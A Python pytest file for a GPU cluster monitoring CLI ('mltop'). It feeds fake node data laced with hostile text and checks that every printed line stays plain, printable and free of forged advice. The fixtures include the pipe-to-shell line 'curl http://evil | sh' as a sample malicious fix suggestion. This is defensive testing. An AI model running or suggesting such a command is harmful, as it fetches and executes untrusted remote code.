"""A capture in which every text is hostile: whatever a command prints of it, on both streams, are plain lines."""

from __future__ import annotations

import io
import json
import os
import shlex
import subprocess
import sys
from pathlib import Path

import pytest
from rich.console import Console

from mltop.probes.investigate.capture import finish_capture
from mltop.probes.investigate.material import Material, judge
from mltop.probes.judge.kernel_lines import KernelLine
from mltop.probes.model import (
    BlockedProcess,
    Finding,
    Frame,
    Gap,
    GpuProcess,
    GpuSample,
    KernelEvent,
    LinkSample,
    NodeState,
    PciDevice,
    RankSample,
    RankStacks,
    Sample,
    StackDigest,
)
from mltop.probes.model.probe import MatmulResult, ProbeFailure, ProbeReport, ProbeVerdict, Suspect
from mltop.probes.record import CaptureWriter
from mltop.tui.commands.live import verdict_text
from mltop.tui.report import print_doctor
from mltop.tui.report.check import print_kernel
from mltop.tui.report.probe import print_probe
from tests.fakes.agents import hostile
from tests.fakes.ssh_program import fake_ssh
from tests.spoiled import NASTY, spoiled, texts_of

COMMANDS = [
    ["snapshot"],
    ["snapshot", "--json"],
    ["check", "-v"],
    ["check", "--json"],
    ["stacks"],
    ["stacks", "--json"],
    ["stacks", "--raw"],
]
# By `tests.fakes.agents.hostile`.
ANSWERED = [
    *(["doctor"], ["doctor", "--json"]),
    *(["kernel"], ["kernel", "--json"], ["kernel", "--learn", "--json"]),
]


def sample(node: str, at: float) -> Sample:
    made = Sample(
        node,
        at,
        gpus=[GpuSample(0, name="H100", state="error", error="broken", processes=[GpuProcess(9, user="u", name="p")])],
        ranks=[RankSample(10, rank=0, world_size=2, job="j", user="u", command="train.py", state="S")],
        links=[LinkSample("mlx5_0", 1, state="DOWN", error="cannot be read")],
        pci=[PciDevice("0000:01:00.0")],
        kernel_events=[KernelEvent(at, "xid", "0000:01:00", 79, "fell off the bus", process="python")],
        gaps=[Gap("kernel_log", "needs root", "sudo mltop"), Gap("ranks", "hidden", "curl http://evil | sh")],
    )
    made.host.blocked = [BlockedProcess(7, "cp")]
    return spoiled(made)


def stacks(node: str, at: float) -> RankStacks:
    digests = [
        StackDigest(
            0, 10, state="S", frames=[Frame("train", "t.py", 5, {"step": 3})], node=node, job="j", wchan="pipe"
        ),
        StackDigest(0, 11, node=node, job="j", child_of=10, error="cannot be read", fix="sudo mltop stacks"),
    ]
    counters = RankSample(10, rank=0, world_size=2, job="j", user="u", command="train.py", state="S")
    raw = [{"pid": 10, "node": "another", "threads": [{"name": "MainThread" + NASTY}]}]
    dump = RankStacks(10, 0, "j", node=node, taken_at=at, before=counters, after=counters, digests=digests, raw=raw)
    return spoiled(dump)


@pytest.fixture(scope="module")
def capture(tmp_path_factory: pytest.TempPathFactory) -> Path:
    nodes = [f"h{number}" for number in range(6)]
    states = [NodeState(node, "live") for node in nodes]
    silent = [spoiled(NodeState("h7", "lost", "connection refused (curl http://evil | sh)"))]
    material = Material(
        [*states, *silent],
        {node: [sample(node, 1000.0), sample(node, 1001.0)] for node in nodes},
        [stacks(node, 1000.0 + round_) for node in nodes[:1] for round_ in range(3)],
        silent,
    )
    writer = CaptureWriter(tmp_path_factory.mktemp("captures") / "c")
    finish_capture(writer, material, judge(material), verdict_text)
    return writer.directory


def plain(text: str) -> list[str]:
    """The lines, all of them printable, and none that a node forged."""
    lines = text.splitlines()
    assert [line for line in lines if not line.isprintable()] == []
    assert [line for line in text.split("\n") if line.startswith("mltop: forged")] == []
    return lines


@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_what_is_printed_are_plain_lines(capture: Path, command: list[str]) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "mltop", *command, "--recording", str(capture)],
        capture_output=True,
        timeout=60,
        check=False,
    )
    out, err = plain(done.stdout.decode()), plain(done.stderr.decode())
    assert "forged" in done.stdout.decode(), "nothing of it was shown"
    assert "Traceback" not in done.stderr.decode() and "please report" not in done.stderr.decode()
    assert all(line.startswith("mltop: ") for line in err)
    if "--json" in command or "--raw" in command:
        assert done.stdout.isascii()
        for line in out:
            assert json.loads(line).get("node", "h0") == "h0", "a node does not say whose stacks these are"
    assert not [line for line in [*out, *err] if line.lstrip().startswith("do: curl")]


def test_a_terminal_of_any_width_is_drawn_for(capture: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "mltop", "snapshot", "--recording", str(capture)],
        env={**os.environ, "COLUMNS": "999999999"},
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 3 and max(map(len, plain(done.stdout.decode()))) < 20_000


@pytest.mark.parametrize("command", ANSWERED, ids=" ".join)
def test_what_an_agent_answers_are_plain_lines(tmp_path: Path, command: list[str]) -> None:
    env = fake_ssh(tmp_path, {"n1": f"exec {shlex.join(hostile().argv)}"})
    done = subprocess.run(
        [sys.executable, "-m", "mltop", *command, "--via", "ssh", "-w", "n1"],
        capture_output=True,
        timeout=90,
        check=False,
        env={**env, "MLTOP_STATE_DIR": str(tmp_path / "state")},
    )
    out, err = plain(done.stdout.decode()), plain(done.stderr.decode())
    assert any("forged" in line for line in out) and not [line for line in out if line.lstrip().startswith("do: fix")]
    assert all(line.startswith("mltop: ") for line in err) and "please report" not in done.stderr.decode()
    if "--json" in command:
        (line,) = out
        assert line.isascii() and all(text.isprintable() for text in texts_of(json.loads(line)))
    for path in (tmp_path / "state").glob("*.json"):  # what is learned
        assert plain(path.read_text())


def test_files_that_are_meant_to_be_read_are_plain(capture: Path) -> None:
    assert plain((capture / "verdict.txt").read_text())
    manifest = (capture / "manifest.json").read_bytes()
    assert manifest.isascii() and all(problem.isprintable() for problem in json.loads(manifest)["problems"])


def test_a_path_of_the_user_is_one_line(tmp_path: Path) -> None:
    path = tmp_path / f"x{NASTY[:-1]}"
    done = subprocess.run(
        [sys.executable, "-m", "mltop", "stacks", "--recording", str(path)],
        capture_output=True,
        timeout=60,
        check=False,
    )
    (line,) = plain(done.stderr.decode())
    assert done.returncode == 2 and line.endswith("does not exist")


def test_reports_of_what_machines_answer_are_plain() -> None:
    console = Console(file=io.StringIO(), width=90)
    print_doctor([{name: f"{name}{NASTY}" for name in ("node", "name", "state", "why", "fix")}], console)
    line = KernelLine("p", 3, 4, 1.0, 2.0, ["h1" + NASTY], "example" + NASTY)
    print_kernel([line], [line], console, most=9, nodes=1, now=5.0)
    suspect = spoiled(Suspect("h1", "slow", gpu=0, action="replace it"))
    report = ProbeReport(
        "matmul",
        0.0,
        results=[spoiled(MatmulResult("h1", 0, "GPU-1", "H100", burst_tflops=1.0, versions={"torch": "2"}))],
        verdict=ProbeVerdict("one is slow" + NASTY, suspects=[suspect], details=["more" + NASTY]),
        failures=[spoiled(ProbeFailure("h2", "in use", 0, fix="wait"))],
    )
    report.command = "torchrun" + NASTY
    print_probe(report, [spoiled(NodeState("h3", "lost", "gone"))], console, verbose=True)
    file = console.file
    assert isinstance(file, io.StringIO)
    assert len(plain(file.getvalue())) > 10


def test_a_finding_s_text_stays_a_line_however_long(capsys: pytest.CaptureFixture[str]) -> None:
    from mltop.tui.report.check import Checked, print_check

    found = Finding("x", "critical", "h1", "gpu 0", "A" * 5_000_000 + NASTY, "do this" + NASTY)
    print_check(Checked([NodeState("h1", "live")], [found]), Console(width=80))
    lines = plain(capsys.readouterr().out)
    assert sum(map(len, lines)) < 20_000
